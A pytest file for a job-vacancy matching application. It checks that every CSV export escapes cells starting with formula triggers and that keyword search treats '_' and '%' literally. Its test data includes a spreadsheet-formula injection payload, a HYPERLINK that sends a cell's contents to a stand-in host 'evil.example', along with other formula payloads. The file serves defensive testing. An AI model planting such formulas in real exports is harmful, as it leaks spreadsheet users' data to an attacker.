"""Hardening (issue 17, items 1 and 5): no CSV cell runs as a formula; search words are literal.

Every CSV path is checked: `workbridge export` (export_file), the subsidy reports, the bureau
series files and the dashboards' CSV downloads.
"""

from __future__ import annotations

import csv
import io
import sys
import types
from dataclasses import dataclass
from pathlib import Path

import pytest

from matcher.bureau import series
from matcher.csv_safe import TRIGGERS, safe_cell
from matcher.dataio import export_file, import_file
from matcher.runtime import Runtime
from matcher.subsidy import reports
from matcher.vacancies.queries import search_vacancies
from web.bureau.dashboards import csv_text

DATA = Path(__file__).parent / "data"
EVIL = '=HYPERLINK("http://evil.example/?leak="&B2,"详情")'
PAYLOADS = [EVIL, "+1+2", "-3+4", "@SUM(A1:A9)", "\t=1+1", "\r=1+1"]


def test_text_that_starts_a_formula_gets_an_apostrophe() -> None:
    """Every trigger character; numbers and harmless text stay as they are."""
    assert sorted(TRIGGERS) == sorted(["=", "+", "-", "@", "\t", "\r"])
    for text in PAYLOADS:
        assert safe_cell(text) == "'" + text
    assert safe_cell("叉车司机 Forklift") == "叉车司机 Forklift"
    assert safe_cell(-5) == -5 and safe_cell(-1.5) == -1.5 and safe_cell(None) is None


def _first_cells(text: str) -> list[str]:
    return [row[0] for row in csv.reader(io.StringIO(text.lstrip("\ufeff")))][1:]


def test_bureau_series_files_and_dashboard_downloads_are_safe(tmp_path: Path) -> None:
    rows = [{"name": p, "n": -2} for p in PAYLOADS]
    path = tmp_path / "s.csv"
    assert series.write_csv(rows, path) == len(rows)
    with path.open(encoding="utf-8-sig", newline="") as fh:
        text = fh.read()
    assert _first_cells(text) == ["'" + p for p in PAYLOADS]
    assert text.splitlines()[1].endswith(",-2")  # a negative number is still a number
    assert _first_cells(csv_text(rows, ["name", "n"])) == ["'" + p for p in PAYLOADS]


def test_subsidy_report_files_are_safe(tmp_path: Path) -> None:
    @dataclass
    class Row:
        agency: str
        paid_fen: int

    path = tmp_path / "r.csv"
    reports.write_csv([Row(p, -100) for p in PAYLOADS], path, Row)
    with path.open(encoding="utf-8-sig", newline="") as fh:
        lines = list(csv.reader(fh))
    assert lines[0] == ["agency", "paid_fen", "paid_yuan"]
    assert [r[0] for r in lines[1:]] == ["'" + p for p in PAYLOADS]
    assert lines[1][1:] == ["-100", "-1.00"]  # amounts are numbers, never escaped


@pytest.fixture
def city(rt: Runtime, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Runtime:
    """The fixture enterprises and vacancies, plus vacancies whose texts are payloads."""
    monkeypatch.setitem(sys.modules, "matcher.index", types.ModuleType("matcher.index"))
    import_file(rt, "enterprises", DATA / "enterprises.csv")
    import_file(rt, "vacancies", DATA / "vacancies.csv")
    evil = tmp_path / "evil.csv"
    with evil.open("w", encoding="utf-8", newline="") as fh:
        w = csv.writer(fh)
        w.writerow(["external_id", "enterprise_external_id", "title", "description"])
        for n, payload in enumerate(PAYLOADS):
            w.writerow([f"X{n}", "E001", payload, payload])
        w.writerow(["X_U", "E001", "仓库_分拣 50% 加班", ""])
    import_file(rt, "vacancies", evil)
    return rt


def test_every_exported_text_cell_is_safe(city: Runtime, tmp_path: Path) -> None:
    """`workbridge export vacancies` writes no live formula, however the text arrived."""
    path = tmp_path / "v.csv"
    export_file(city, "vacancies", path)
    with path.open(encoding="utf-8", newline="") as fh:
        rows = {r["external_id"]: r for r in csv.DictReader(fh)}
    for n in range(len(PAYLOADS)):
        for column in ("title", "description"):
            cell = rows[f"X{n}"][column]
            assert not cell.startswith(TRIGGERS), (column, cell)
            assert cell.startswith("'")
    assert rows["V001"]["title"] == "口罩机操作工 / Mask machine operator"


def test_search_words_are_literal_not_wildcards(city: Runtime) -> None:
    """``_`` and ``%`` are never wildcards (they used to match every vacancy): the keyword
    search reads punctuation as punctuation, so at most the posting holding it is found."""
    with city.uow() as uow:
        assert search_vacancies(uow.s, words="").total > 5
        for word in ("_", "%"):
            found = search_vacancies(uow.s, words=word)
            assert {v.external_id for v in found.items} <= {"X_U"}, word
            assert found.total <= 1, word
        assert search_vacancies(uow.s, words="\\").total == 0
